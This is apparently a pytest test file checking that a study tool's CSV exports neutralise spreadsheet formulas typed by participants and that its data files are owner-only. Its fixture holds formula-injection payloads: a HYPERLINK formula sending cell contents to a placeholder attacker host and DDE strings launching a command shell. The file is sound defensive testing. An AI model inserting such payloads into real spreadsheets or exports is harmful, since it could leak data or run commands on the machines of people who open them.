"""Exports a researcher can open safely: no spreadsheet formulas from participants' text, and
files only their owner can read."""

from __future__ import annotations

import csv
import json
import os
import shutil
import stat
from collections.abc import Iterator
from pathlib import Path

import numpy as np
import pytest
from click.testing import CliRunner

from engine import VirtualClock
from engine.study import open_bundle
from tests.studykit import make_bundle, watch, write_study
from tui.cli import main

FORMULAS = {
    "comment": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "answer": "+cmd|' /C calc'!A0",
    "name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "minus": "-2+3",
}


@pytest.fixture
def formula_bundle(world_path: Path, tmp_path: Path) -> Path:
    """A bundle where a participant typed formulas as a comment and an answer."""
    path = make_bundle(world_path, tmp_path)
    with open_bundle(path) as bundle:
        bundle.record_consent("P001", agreed=True)
        bundle.record_answers("P001", "pre", {"age": "25-34", "hours": 3})
        clock = VirtualClock(0.0)
        with bundle.open_feed("P001", interests=["cooking"], clock=clock) as feed:
            video = feed.next().video.id
            feed.seen(video)
            feed.record(video, "comment", text=FORMULAS["comment"])
            feed.record(video, "comment", text=FORMULAS["tab"])
        watch(bundle, "P001", clock, np.random.default_rng(0))
        bundle.record_answers("P001", "post", {"enjoy": 2, "notes": FORMULAS["answer"]})
    return path


def export(db: Path, out: Path, fmt: str) -> None:
    args = ["export", "--db", str(db), "--out", str(out), "--format", fmt]
    result = CliRunner().invoke(main, args)
    assert result.exit_code == 0, result.output


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def test_csv_cells_a_spreadsheet_would_run_get_a_leading_quote(
    formula_bundle: Path, tmp_path: Path
) -> None:
    out = tmp_path / "csv"
    export(formula_bundle, out, "csv")
    comments = [r["text"] for r in read_csv(out / "events.csv") if r["kind"] == "comment"]
    assert comments == ["'" + FORMULAS["comment"], "'" + FORMULAS["tab"]]
    notes = [r["value"] for r in read_csv(out / "answers.csv") if r["item"] == "notes"]
    assert notes == ["'" + FORMULAS["answer"]]
    # Numbers stay numbers: videos published before the world's epoch have negative times.
    published = [r["published_at"] for r in read_csv(out / "videos.csv")]
    assert any(p.startswith("-") for p in published)
    assert all(float(p) == float(p) for p in published)
    assert "' put in front of it" in (out / "codebook.md").read_text()


def test_jsonl_keeps_the_text_as_typed(formula_bundle: Path, tmp_path: Path) -> None:
    out = tmp_path / "jsonl"
    export(formula_bundle, out, "jsonl")
    with (out / "events.jsonl").open(encoding="utf-8") as handle:
        events = [json.loads(line) for line in handle]
    comments = [e["text"] for e in events if e["kind"] == "comment"]
    assert comments == [FORMULAS["comment"], FORMULAS["tab"]]


@pytest.fixture
def open_umask() -> Iterator[None]:
    """The common default umask (022), under which new files come out world-readable."""
    previous = os.umask(0o022)
    try:
        yield
    finally:
        os.umask(previous)


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_study_bundles_and_their_sidecars_are_owner_only(
    tmp_path: Path, world_template: Path, open_umask: None
) -> None:
    definition = write_study(tmp_path, world_template)
    bundle = tmp_path / "study.db"
    result = CliRunner().invoke(main, ["study", "init", str(definition), "--db", str(bundle)])
    assert result.exit_code == 0, result.output
    assert mode(bundle) == 0o600
    with open_bundle(bundle) as opened:
        opened.enrol("P001")
        opened.record_consent("P001", agreed=True)
        opened.claim("P001")
        sidecars = [Path(f"{bundle}{s}") for s in ("-wal", "-shm", ".lock")]
        assert all(p.exists() for p in sidecars)
        assert {p.name: mode(p) for p in sidecars} == {p.name: 0o600 for p in sidecars}


def test_exports_merges_and_reports_are_owner_only(
    formula_bundle: Path, world_template: Path, tmp_path: Path, open_umask: None
) -> None:
    for fmt in ("csv", "jsonl"):
        out = tmp_path / "exports" / fmt
        export(formula_bundle, out, fmt)
        assert mode(out) == 0o700
        assert {f.name: mode(f) for f in out.iterdir()} == {f.name: 0o600 for f in out.iterdir()}
    station = tmp_path / "station-b"
    station.mkdir()
    other = make_bundle(shutil.copy(world_template, station / "b.db"), station)
    merged = tmp_path / "all.db"
    result = CliRunner().invoke(
        main, ["study", "merge", str(formula_bundle), str(other), "--out", str(merged)]
    )
    assert result.exit_code == 0, result.output
    assert mode(merged) == 0o600
    report = tmp_path / "report"
    args = ["--users", "2", "--sessions", "1", "--seed", "1", "--no-log", "--out", str(report)]
    result = CliRunner().invoke(main, ["simulate", "--db", str(formula_bundle), *args])
    assert result.exit_code == 0, result.output
    assert mode(report) == 0o700
    assert {f.name: mode(f) for f in report.iterdir()} == {"metrics.json": 0o600}
